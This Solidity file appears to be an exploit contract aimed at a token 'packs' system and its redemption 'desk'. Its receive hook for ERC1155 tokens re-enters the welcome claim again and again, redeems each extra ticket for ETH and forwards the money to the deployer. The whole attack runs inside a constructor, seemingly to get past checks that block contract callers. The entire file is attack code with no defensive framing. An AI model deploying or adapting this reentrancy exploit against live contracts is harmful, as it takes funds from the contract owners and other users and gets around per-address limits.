// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IPacks {
    function welcome(uint256 id) external;
}

interface IDesk {
    function redeem(uint256 id, uint256 count) external;
}

/// Takes the welcome ticket again and again from within its arrival, cashing each at the desk.
contract Hands {
    IPacks private immutable packs;
    IDesk private immutable desk;
    uint256 private left;

    constructor(IPacks packs_, IDesk desk_, uint256 rounds) {
        (packs, desk, left) = (packs_, desk_, rounds);
    }

    receive() external payable {}

    function pull() external {
        packs.welcome(7);
        payable(msg.sender).transfer(address(this).balance);
    }

    function onERC1155Received(address, address, uint256, uint256, bytes calldata) external returns (bytes4) {
        desk.redeem(7, 1);
        if (left-- > 1) {
            try packs.welcome(7) {} catch {}
        }
        return this.onERC1155Received.selector;
    }
}

/// All of it in the constructor.
contract Scalper {
    constructor(IPacks packs, IDesk desk, uint256 rounds) {
        Hands hands = new Hands(packs, desk, rounds);
        hands.pull();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
